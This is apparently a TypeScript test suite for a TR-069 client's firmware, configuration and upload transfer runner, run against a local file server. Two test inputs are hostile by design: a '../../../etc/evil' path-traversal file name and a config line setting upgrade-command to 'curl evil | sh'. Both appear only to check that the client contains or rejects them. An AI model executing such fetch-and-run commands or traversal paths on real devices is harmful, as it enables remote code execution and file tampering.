import { test, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { access, readFile, readdir, writeFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import type { Download, ScheduleDownload, Upload } from '../../src/cwmp/types.js';
import { TransferQueue, type TransferEntry } from '../../src/transfers/queue.js';
import { TransferRunner, type RunnerDeps, type TransferCommands } from '../../src/transfers/runner.js';
import { TransferFault } from '../../src/transfers/faults.js';
import { exportConfig } from '../../src/transfers/config-export.js';
import type { CommandSpec } from '../../src/transfers/commands.js';
import { FileServer, recorderScript, sha256, tempDir, waitFor } from './helpers.js';
import { downloadRequest } from '../helpers/requests.js';

const PASSWORD = 'file-server-secret-9c1';

interface Rig {
  dir: string;
  workDir: string;
  srv: FileServer;
  queue: TransferQueue;
  runner: TransferRunner;
  done: TransferEntry[];
  logs: { level: string; obj: Record<string, unknown>; msg: string }[];
  /** Enqueue, poke, wait for the next TransferComplete; returns its result. */
  transfer(req: Download | ScheduleDownload | Upload): Promise<NonNullable<TransferEntry['result']>>;
}

async function rig(
  t: TestContext,
  commands: Partial<TransferCommands> = {},
  deps: Partial<RunnerDeps> = {},
): Promise<Rig> {
  const dir = await tempDir('run');
  const srv = await FileServer.start();
  const queue = new TransferQueue(join(dir, 'transfers.json'));
  const done: TransferEntry[] = [];
  const logs: Rig['logs'] = [];
  const logger = (level: string) => (obj: Record<string, unknown>, msg: string) => logs.push({ level, obj, msg });
  const workDir = join(dir, 'work');
  const runner = new TransferRunner({
    queue,
    workDir,
    commands: () => ({ upgradeCommand: '', rebootCommand: '', scriptCommand: '/bin/sh', configCommand: '', ...commands }),
    onTransferComplete: (e) => done.push(e),
    log: { info: logger('info'), warn: logger('warn'), error: logger('error') },
    limits: { rebootGraceMs: 50, windowRetryDelayMs: 50 },
    ...deps,
  });
  t.after(async () => {
    await runner.stop();
    await srv.close();
  });
  await runner.start();
  return {
    dir,
    workDir,
    srv,
    queue,
    runner,
    done,
    logs,
    async transfer(req) {
      const before = done.length;
      await queue.enqueue(req);
      runner.poke();
      const e = await waitFor(() => done[before], 20_000, 'TransferComplete');
      return e.result!;
    },
  };
}

function download(url: string, over: Partial<Download> = {}): Download {
  return downloadRequest({ commandKey: 'ck-' + randomBytes(3).toString('hex'), url, ...over });
}

function manifest(links: { url: string; sha?: string; size?: number }[]): string {
  const items = links
    .map(
      (l) =>
        `<link><url>${l.url}</url>${l.sha ? `<sha256>${l.sha}</sha256>` : ''}${l.size !== undefined ? `<size>${l.size}</size>` : ''}</link>`,
    )
    .join('\n    ');
  return `<?xml version="1.0" encoding="UTF-8"?>\n<upgrade version="1" type="links">\n  <config/>\n  <links>\n    ${items}\n  </links>\n</upgrade>\n`;
}

async function exists(p: string): Promise<boolean> {
  return access(p).then(
    () => true,
    () => false,
  );
}

async function lines(p: string): Promise<string[]> {
  return (await readFile(p, 'utf8')).trim().split('\n');
}

test('firmware manifest with 3 links: all fetched and verified, upgrade-command gets them in order, reboot-command runs', async (t) => {
  const dir = await tempDir('fw');
  const upgradeOut = join(dir, 'upgrade.txt');
  const rebootOut = join(dir, 'reboot.txt');
  const r = await rig(t, {
    upgradeCommand: await recorderScript(dir, 'upgrade', upgradeOut),
    rebootCommand: `echo rebooted >> '${rebootOut}'; true`,
  });
  const auth = { scheme: 'digest' as const, username: 'acs', password: PASSWORD };
  const files = [randomBytes(200_000), randomBytes(1234), randomBytes(77_777)];
  files.forEach((f, i) => r.srv.route(`/pkg/part${i}.npk`, { body: f, auth }));
  r.srv.route('/upgrade.xml', {
    auth,
    body: manifest(files.map((f, i) => ({ url: r.srv.url(`/pkg/part${i}.npk`), sha: sha256(f), size: f.length }))),
  });
  const result = await r.transfer(download(r.srv.url('/upgrade.xml'), { username: 'acs', password: PASSWORD }));
  assert.equal(result.faultCode, 0, result.faultString);
  assert.notEqual(result.startTime, '0001-01-01T00:00:00Z');
  const got = await lines(upgradeOut);
  assert.equal(got.length, 3);
  got.forEach((line, i) => {
    const [path, hash] = line.split(' ');
    assert.equal(hash, sha256(files[i]), `file ${i} complete when upgrade-command ran`);
    assert.ok(resolve(path).startsWith(resolve(r.workDir) + '/'), path);
    assert.match(path, new RegExp(`0${i + 1}-part${i}\\.npk$`));
  });
  assert.deepEqual(await lines(rebootOut), ['rebooted']);
  assert.deepEqual(await readdir(r.workDir), [], 'the transfer directory is removed at the end');
  assert.ok(!JSON.stringify(r.logs).includes(PASSWORD), 'the password is never logged');
  assert.deepEqual(
    (await r.queue.pendingEvents()).map((e) => e.eventCode),
    ['7 TRANSFER COMPLETE', 'M Download'],
  );
});

test('manifest failures are reported before anything is applied: 404 link 9016, checksum 9018, bad manifest 9018', async (t) => {
  const dir = await tempDir('fw');
  const upgradeOut = join(dir, 'upgrade.txt');
  const r = await rig(t, { upgradeCommand: await recorderScript(dir, 'upgrade', upgradeOut), rebootCommand: 'true' });
  const good = randomBytes(5000);
  r.srv.route('/good.npk', { body: good });
  r.srv.route('/m404.xml', { body: manifest([{ url: r.srv.url('/good.npk') }, { url: r.srv.url('/missing.npk') }]) });
  r.srv.route('/msha.xml', { body: manifest([{ url: r.srv.url('/good.npk'), sha: 'a'.repeat(64) }]) });
  r.srv.route('/msize.xml', { body: manifest([{ url: r.srv.url('/good.npk'), size: 4999 }]) });
  r.srv.route('/mbad.xml', { body: '<upgrade version="1" type="links"><links><link><url>ftp://x/y</url></link></links></upgrade>' });

  let res = await r.transfer(download(r.srv.url('/m404.xml')));
  assert.equal(res.faultCode, 9016, res.faultString);
  res = await r.transfer(download(r.srv.url('/msha.xml')));
  assert.equal(res.faultCode, 9018);
  assert.match(res.faultString, /checksum mismatch/);
  res = await r.transfer(download(r.srv.url('/msize.xml')));
  assert.equal(res.faultCode, 9018);
  res = await r.transfer(download(r.srv.url('/mbad.xml')));
  assert.equal(res.faultCode, 9018);
  assert.match(res.faultString, /invalid upgrade manifest: link 1: only http and https/);
  // wrong FileSize of the Download itself
  res = await r.transfer(download(r.srv.url('/good.npk'), { fileSize: 12 }));
  assert.equal(res.faultCode, 9018);
  assert.equal(await exists(upgradeOut), false, 'upgrade-command never ran');
  assert.deepEqual(await readdir(r.workDir), []);
});

test('file-server credentials: Basic and Digest right → ok, wrong → 9012', async (t) => {
  const dir = await tempDir('fw');
  const r = await rig(t, { upgradeCommand: await recorderScript(dir, 'upgrade', join(dir, 'u.txt')) });
  r.srv.route('/basic.img', { body: 'img', auth: { scheme: 'basic', username: 'u', password: PASSWORD } });
  r.srv.route('/digest.img', { body: 'img', auth: { scheme: 'digest', username: 'u', password: PASSWORD } });
  for (const path of ['/basic.img', '/digest.img']) {
    const ok = await r.transfer(download(r.srv.url(path), { username: 'u', password: PASSWORD }));
    assert.equal(ok.faultCode, 0, `${path}: ${ok.faultString}`);
    const bad = await r.transfer(download(r.srv.url(path), { username: 'u', password: 'wrong' }));
    assert.equal(bad.faultCode, 9012, path);
  }
});

test('plain image: upgrade-command gets the one file; no reboot-command → success at once (logged)', async (t) => {
  const dir = await tempDir('fw');
  const out = join(dir, 'u.txt');
  const r = await rig(t, { upgradeCommand: await recorderScript(dir, 'upgrade', out) });
  const img = randomBytes(100_000);
  r.srv.route('/fw/image.bin', { body: img });
  const res = await r.transfer(download(r.srv.url('/fw/image.bin'), { fileSize: img.length, targetFileName: '../../../etc/evil' }));
  assert.equal(res.faultCode, 0);
  const [line] = await lines(out);
  const [path, hash] = line.split(' ');
  assert.equal(hash, sha256(img));
  assert.ok(resolve(path).startsWith(resolve(r.workDir) + '/'), `TargetFileName cannot escape: ${path}`);
  assert.ok(r.logs.some((l) => /no reboot-command configured/.test(l.msg)));
});

test('upgrade-command failures: exit 1 → 9010 quoting stderr; empty → 9010; reboot-command failing → 9010', async (t) => {
  const dir = await tempDir('fw');
  const failing = join(dir, 'fail.sh');
  await writeFile(failing, 'echo "checking $1"\necho "warning: old" >&2\necho "bad package signature" >&2\nexit 1\n');
  let cmds: Partial<TransferCommands> = { upgradeCommand: `/bin/sh '${failing}'`, rebootCommand: 'true' };
  const r = await rig(t, {}, { commands: () => ({ upgradeCommand: '', rebootCommand: '', scriptCommand: '', configCommand: '', ...cmds }) });
  r.srv.route('/image.bin', { body: 'x' });
  let res = await r.transfer(download(r.srv.url('/image.bin')));
  assert.equal(res.faultCode, 9010);
  assert.equal(res.faultString, 'upgrade-command exited with code 1: bad package signature');
  cmds = { upgradeCommand: '  ' };
  res = await r.transfer(download(r.srv.url('/image.bin')));
  assert.deepEqual([res.faultCode, res.faultString], [9010, 'no upgrade-command configured']);
  cmds = { upgradeCommand: 'true', rebootCommand: 'echo "reboot: permission denied" >&2; exit 3' };
  res = await r.transfer(download(r.srv.url('/image.bin')));
  assert.equal(res.faultCode, 9010);
  assert.match(res.faultString, /installed but reboot-command exited with code 3: reboot: permission denied/);
});

test('configuration files: .alter scripts, config-command, failing and disabled scripts, time limit', async (t) => {
  const dir = await tempDir('cfg');
  const marker = join(dir, 'marker.txt');
  const cfgOut = join(dir, 'config.txt');
  let cmds: TransferCommands = { upgradeCommand: '', rebootCommand: '', scriptCommand: '/bin/sh', configCommand: '' };
  const r = await rig(t, {}, { commands: () => cmds, limits: { scriptTimeoutMs: 500 } });
  const cfg = (url: string) => download(url, { fileType: '3 Vendor Configuration File' });
  r.srv.route('/set-hostname.alter', { body: `echo "ran as script" >> '${marker}'\necho done\n` });
  r.srv.route('/broken.alter', { body: 'echo "line 1 ok"\necho "syntax error near fi" >&2\nexit 2\n' });
  r.srv.route('/full.rsc', { body: `echo "full config" >> '${marker}'\n` });
  r.srv.route('/slow.alter', { body: 'sleep 20\n' });

  let res = await r.transfer(cfg(r.srv.url('/set-hostname.alter')));
  assert.equal(res.faultCode, 0, res.faultString);
  assert.deepEqual(await lines(marker), ['ran as script']);
  assert.ok(r.logs.some((l) => l.obj.stdout === 'done\n'), 'script output is kept in the log');

  res = await r.transfer(cfg(r.srv.url('/broken.alter')));
  assert.deepEqual([res.faultCode, res.faultString], [9010, 'script exited with code 2: syntax error near fi']);

  // not .alter and no config-command: also a script
  res = await r.transfer(cfg(r.srv.url('/full.rsc')));
  assert.equal(res.faultCode, 0);
  assert.deepEqual(await lines(marker), ['ran as script', 'full config']);

  // config-command handles full configurations, never .alter files
  cmds = { ...cmds, configCommand: await recorderScript(dir, 'config', cfgOut) };
  res = await r.transfer(cfg(r.srv.url('/full.rsc')));
  assert.equal(res.faultCode, 0);
  assert.equal((await lines(cfgOut)).length, 1);
  assert.equal((await lines(marker)).length, 2, 'config-command ran instead of the script');
  res = await r.transfer(cfg(r.srv.url('/set-hostname.alter')));
  assert.equal(res.faultCode, 0);
  assert.equal((await lines(marker)).length, 3, '.alter always runs as a script');

  res = await r.transfer(cfg(r.srv.url('/slow.alter')));
  assert.equal(res.faultCode, 9010);
  assert.match(res.faultString, /did not finish within 500 ms and was killed/);

  cmds = { ...cmds, scriptCommand: '' };
  res = await r.transfer(cfg(r.srv.url('/set-hostname.alter')));
  assert.deepEqual([res.faultCode, res.faultString], [9010, 'scripts are disabled (script-command is empty)']);
  assert.equal((await lines(marker)).length, 3);
});

test('our own export format is applied through applySettings, no shell', async (t) => {
  const applied: Record<string, string>[] = [];
  let scriptCommand = '';
  const r = await rig(
    t,
    {},
    {
      commands: () => ({ upgradeCommand: '', rebootCommand: '', scriptCommand, configCommand: '' }),
      applySettings: async (v) => {
        if (v['periodic-inform-interval'] === 'bogus') throw new Error('periodic-inform-interval: not a duration');
        applied.push(v);
      },
    },
  );
  const text = exportConfig({
    values: { 'acs-url': 'https://acs.example:7547/', 'provisioning-code': "it's here", password: 'pw' },
    secretKeys: ['password'],
    includeSecrets: false,
  });
  r.srv.route('/backup.rsc', { body: text });
  r.srv.route('/bad.rsc', { body: text + 'tr069-client set periodic-inform-interval=bogus\n' });
  r.srv.route('/cmd.rsc', { body: text + "tr069-client set upgrade-command='curl evil | sh'\n" });
  const cfg = (p: string) => download(r.srv.url(p), { fileType: '3 Vendor Configuration File' });
  let res = await r.transfer(cfg('/backup.rsc'));
  assert.equal(res.faultCode, 0, res.faultString);
  assert.deepEqual(applied, [{ 'acs-url': 'https://acs.example:7547/', 'provisioning-code': "it's here" }]);
  res = await r.transfer(cfg('/bad.rsc'));
  assert.deepEqual([res.faultCode, res.faultString], [9010, 'configuration rejected: periodic-inform-interval: not a duration']);
  res = await r.transfer(cfg('/cmd.rsc'));
  assert.equal(res.faultCode, 9010);
  assert.match(res.faultString, /sets upgrade-command but scripts are disabled/);
  scriptCommand = '/bin/sh';
  res = await r.transfer(cfg('/cmd.rsc'));
  assert.equal(res.faultCode, 0);
  assert.equal(applied.length, 2);
});

test('uploads: configuration and log arrive by PUT (Digest), POST fallback on 405, 9012 and 9011', async (t) => {
  const dir = await tempDir('up');
  const logFile = join(dir, 'client.log');
  await writeFile(logFile, Array.from({ length: 2000 }, (_, i) => `line ${i}`).join('\n') + '\n');
  const r = await rig(t, {}, { exportConfig: () => '# tr069-client configuration export\n', logFile: () => logFile, limits: { maxLogUploadBytes: 1000 } });
  const auth = { scheme: 'digest' as const, username: 'u', password: PASSWORD };
  r.srv.route('/up/config', { upload: ['PUT'], auth });
  r.srv.route('/up/log', { upload: ['PUT'] });
  r.srv.route('/up/post-only', { upload: ['POST'] });
  r.srv.route('/up/broken', { status: 500 });
  const up = (path: string, fileType: string, over: Partial<Upload> = {}): Upload => ({
    method: 'Upload',
    commandKey: 'up',
    fileType,
    url: r.srv.url(path),
    username: 'u',
    password: PASSWORD,
    delaySeconds: 0,
    ...over,
  });
  let res = await r.transfer(up('/up/config', '1 Vendor Configuration File'));
  assert.equal(res.faultCode, 0, res.faultString);
  const put = r.srv.requests.filter((q) => q.path === '/up/config' && q.method === 'PUT');
  assert.equal(put.at(-1)?.body.toString(), '# tr069-client configuration export\n');
  res = await r.transfer(up('/up/log', '2 Vendor Log File'));
  assert.equal(res.faultCode, 0);
  const log = r.srv.requests.find((q) => q.path === '/up/log')!.body.toString();
  assert.ok(log.length <= 1000 && log.startsWith('line ') && log.endsWith('line 1999\n'), 'the tail, cut at a line');
  res = await r.transfer(up('/up/post-only', '4 Vendor Log File 1'));
  assert.equal(res.faultCode, 0);
  assert.deepEqual(r.srv.requests.filter((q) => q.path === '/up/post-only').map((q) => q.method), ['PUT', 'POST']);
  res = await r.transfer(up('/up/config', '1 Vendor Configuration File', { password: 'nope' }));
  assert.equal(res.faultCode, 9012);
  res = await r.transfer(up('/up/broken', '1 Vendor Configuration File'));
  assert.deepEqual([res.faultCode, res.faultString.includes('HTTP 500')], [9011, true]);
});

test('cancel: a delayed transfer and a running download go without TransferComplete; applying → 9021', async (t) => {
  const dir = await tempDir('cancel');
  const r = await rig(t, { upgradeCommand: 'sleep 1; true' });
  r.srv.route('/slow.img', { body: randomBytes(200_000), trickle: { chunk: 1000, intervalMs: 20 } });
  r.srv.route('/fast.img', { body: 'x' });
  await r.queue.enqueue(download(r.srv.url('/fast.img'), { commandKey: 'later', delaySeconds: 3600 }));
  await r.runner.cancel('later');
  await r.queue.enqueue(download(r.srv.url('/slow.img'), { commandKey: 'running' }));
  r.runner.poke();
  const running = await waitFor(async () => (await r.queue.list()).find((e) => e.phase === 'downloading'), 5000, 'download start');
  await waitFor(() => r.srv.hits('/slow.img') > 0 || undefined);
  await r.runner.cancel('running');
  await waitFor(async () => !(await exists(join(r.workDir, running.id))) || undefined, 5000, 'cleanup');
  assert.deepEqual(await r.queue.list(), []);
  // applying: too late to cancel
  await r.queue.enqueue(download(r.srv.url('/fast.img'), { commandKey: 'applying' }));
  r.runner.poke();
  await waitFor(async () => (await r.queue.list()).find((e) => e.phase === 'applying'), 5000, 'apply');
  await assert.rejects(r.runner.cancel('applying'), (e: unknown) => e instanceof TransferFault && e.faultCode === 9021);
  await waitFor(() => r.done.length === 1 || undefined, 5000);
  assert.deepEqual(r.done.map((e) => [e.commandKey, e.result?.faultCode]), [['applying', 0]]);
  void dir;
});

test('DelaySeconds is honoured', async (t) => {
  const dir = await tempDir('delay');
  const r = await rig(t, { upgradeCommand: await recorderScript(dir, 'u', join(dir, 'u.txt')) });
  r.srv.route('/img', { body: 'x' });
  const t0 = Date.now();
  await r.queue.enqueue(download(r.srv.url('/img'), { delaySeconds: 1 }));
  r.runner.poke();
  await new Promise((res) => setTimeout(res, 400));
  assert.equal(r.srv.hits('/img'), 0, 'not started before the delay');
  await waitFor(() => r.done[0], 5000);
  assert.ok(Date.now() - t0 >= 1000);
});

test('ScheduleDownload: retries inside the window up to MaxRetries; windows already gone → 9020', async (t) => {
  const r = await rig(t, { upgradeCommand: 'true' });
  const sd = (windowStart: number, windowEnd: number, maxRetries: number, url: string): ScheduleDownload => ({
    method: 'ScheduleDownload',
    commandKey: 'sd',
    fileType: '1 Firmware Upgrade Image',
    url,
    username: '',
    password: '',
    fileSize: 0,
    targetFileName: '',
    timeWindowList: [{ windowStart, windowEnd, windowMode: '1 At Any Time', userMessage: '', maxRetries }],
  });
  const res = await r.transfer(sd(0, 60, 2, r.srv.url('/nothing-here')));
  assert.equal(res.faultCode, 9016);
  assert.equal(r.srv.hits('/nothing-here'), 3, 'one attempt + 2 retries');
  r.srv.route('/img', { body: 'x' });
  assert.equal((await r.transfer(sd(0, 60, 0, r.srv.url('/img')))).faultCode, 0);
  // a queue that received the request an hour ago: its 60 s window is long gone
  const old = new TransferQueue(r.queue.path, { now: () => Date.now() - 3_600_000 });
  await old.enqueue(sd(0, 60, 0, r.srv.url('/img')));
  r.runner.poke();
  const late = await waitFor(() => r.done[2], 5000);
  assert.equal(late.result?.faultCode, 9020);
  assert.equal(late.result?.startTime, '0001-01-01T00:00:00Z');
});

test('an injected runCommand sees the command, the files and the CommandKey', async (t) => {
  const seen: CommandSpec[] = [];
  const r = await rig(
    t,
    { upgradeCommand: 'install-packages --now', rebootCommand: 'systemctl reboot' },
    {
      runCommand: async (spec) => {
        seen.push(spec);
        return { exitCode: 0, signal: null, timedOut: false, stdout: '', stderr: '' };
      },
    },
  );
  r.srv.route('/a.npk', { body: 'a' }).route('/b.npk', { body: 'b' });
  r.srv.route('/m.xml', { body: manifest([{ url: r.srv.url('/a.npk') }, { url: r.srv.url('/b.npk') }]) });
  const res = await r.transfer(download(r.srv.url('/m.xml'), { commandKey: 'fw-7.16' }));
  assert.equal(res.faultCode, 0);
  assert.deepEqual(
    seen.map((s) => [s.purpose, s.command, s.args.map((a) => a.replace(/^.*\//, '')), s.env?.TR069_COMMAND_KEY]),
    [
      ['upgrade-command', 'install-packages --now', ['01-a.npk', '02-b.npk'], 'fw-7.16'],
      ['reboot-command', 'systemctl reboot', [], 'fw-7.16'],
    ],
  );
});

test('restart rules: rebooting → success, applying → 9010, downloading → restarted (bounded)', async (t) => {
  const dir = await tempDir('recover');
  const srv = await FileServer.start();
  t.after(() => srv.close());
  srv.route('/img', { body: 'x' });
  const queue = new TransferQueue(join(dir, 'transfers.json'));
  const mk = (commandKey: string) => queue.enqueue(download(srv.url('/img'), { commandKey }));
  const a = await mk('rebooted');
  const b = await mk('crashed-in-apply');
  const c = await mk('crashed-in-download');
  const d = await mk('crashed-too-often');
  await queue.modify(a.id, (e) => ({ ...e, state: 2, phase: 'rebooting', starts: 1, startedAt: Date.now() - 60_000 }));
  await queue.modify(b.id, (e) => ({ ...e, state: 2, phase: 'applying', starts: 1, startedAt: Date.now() }));
  await queue.modify(c.id, (e) => ({ ...e, state: 2, phase: 'downloading', starts: 1, startedAt: Date.now() }));
  await queue.modify(d.id, (e) => ({ ...e, state: 2, phase: 'downloading', starts: 3, startedAt: Date.now() }));
  const done: TransferEntry[] = [];
  const runner = new TransferRunner({
    queue,
    workDir: join(dir, 'work'),
    commands: () => ({ upgradeCommand: 'true', rebootCommand: '', scriptCommand: '', configCommand: '' }),
    onTransferComplete: (e) => done.push(e),
  });
  t.after(() => runner.stop());
  await runner.start();
  await waitFor(() => done.length === 4 || undefined, 10_000, 'four results');
  const byKey = Object.fromEntries(done.map((e) => [e.commandKey, e.result!]));
  assert.equal(byKey['rebooted'].faultCode, 0);
  assert.equal(byKey['crashed-in-apply'].faultCode, 9010);
  assert.match(byKey['crashed-in-apply'].faultString, /interrupted: tr069-client stopped while applying the Firmware Upgrade Image/);
  assert.equal(byKey['crashed-in-download'].faultCode, 0, 'downloaded again and applied');
  assert.equal(byKey['crashed-too-often'].faultCode, 9017);
  assert.equal((await queue.pendingTransferCompletes()).length, 4);
});

test('stop() during a download puts it back in the queue; a new runner finishes it', async (t) => {
  const dir = await tempDir('stop');
  const srv = await FileServer.start();
  t.after(() => srv.close());
  srv.route('/slow', { body: randomBytes(100_000), trickle: { chunk: 2000, intervalMs: 20 } });
  const queue = new TransferQueue(join(dir, 'transfers.json'));
  const deps = {
    queue,
    workDir: join(dir, 'work'),
    commands: () => ({ upgradeCommand: 'true', rebootCommand: '', scriptCommand: '', configCommand: '' }),
  };
  const first = new TransferRunner(deps);
  await first.start();
  await queue.enqueue(download(srv.url('/slow')));
  first.poke();
  await waitFor(async () => (await queue.list()).find((e) => e.phase === 'downloading'), 5000);
  await first.stop();
  const [e] = await queue.list();
  assert.deepEqual([e.state, e.phase, e.starts], [1, 'queued', 0]);
  const done: TransferEntry[] = [];
  const second = new TransferRunner({ ...deps, onTransferComplete: (x) => done.push(x) });
  t.after(() => second.stop());
  await second.start();
  await waitFor(() => done[0], 10_000);
  assert.equal(done[0].result?.faultCode, 0);
});

test('start() with an unusable queue file does not throw; recovery happens once the file is readable', async (t) => {
  const dir = await tempDir('lock');
  const queue = new TransferQueue(join(dir, 'transfers.json'));
  const e = await queue.enqueue(download('http://127.0.0.1:9/never'));
  await queue.modify(e.id, (x) => ({ ...x, state: 2, phase: 'rebooting', starts: 1 }));
  const good = await readFile(queue.path, 'utf8');
  await writeFile(queue.path, '{"entries": [tr'); // e.g. restored from a broken backup
  const done: TransferEntry[] = [];
  const errors: string[] = [];
  const runner = new TransferRunner({
    queue,
    workDir: join(dir, 'work'),
    commands: () => ({ upgradeCommand: '', rebootCommand: '', scriptCommand: '', configCommand: '' }),
    onTransferComplete: (x) => done.push(x),
    log: { info() {}, warn() {}, error: (_o, msg) => errors.push(msg) },
    limits: { retryAfterErrorMs: 100 },
  });
  t.after(() => runner.stop());
  await runner.start();
  assert.equal(done.length, 0);
  assert.match(errors[0], /cannot settle interrupted transfers yet/);
  await writeFile(queue.path, good);
  const settled = await waitFor(() => done[0], 15_000, 'recovery once the file is readable');
  assert.equal(settled.result?.faultCode, 0);
});

test('shutdown while waiting for the reboot keeps the phase and the files for the next start', async (t) => {
  const dir = await tempDir('grace');
  const srv = await FileServer.start();
  t.after(() => srv.close());
  srv.route('/fw.img', { body: 'image' });
  const queue = new TransferQueue(join(dir, 'transfers.json'));
  const workDir = join(dir, 'work');
  const rebooted = join(dir, 'rebooted');
  const runner = new TransferRunner({
    queue,
    workDir,
    commands: () => ({ upgradeCommand: 'true', rebootCommand: `touch '${rebooted}'`, scriptCommand: '', configCommand: '' }),
    limits: { rebootGraceMs: 60_000 },
  });
  await runner.start();
  const e = await queue.enqueue(download(srv.url('/fw.img')));
  runner.poke();
  await waitFor(async () => (await exists(rebooted)) || undefined, 10_000, 'reboot-command');
  await runner.stop(); // SIGTERM from the reboot
  const [after] = await queue.list();
  assert.deepEqual([after.state, after.phase], [2, 'rebooting']);
  assert.deepEqual(await readdir(join(workDir, e.id)), ['00-fw.img']);
  const done: TransferEntry[] = [];
  const next = new TransferRunner({
    queue,
    workDir,
    commands: () => ({ upgradeCommand: '', rebootCommand: '', scriptCommand: '', configCommand: '' }),
    onTransferComplete: (x) => done.push(x),
  });
  t.after(() => next.stop());
  await next.start();
  assert.equal(done[0]?.result?.faultCode, 0, 'settled during start(), before the first Inform');
  assert.deepEqual(await readdir(workDir), []);
});
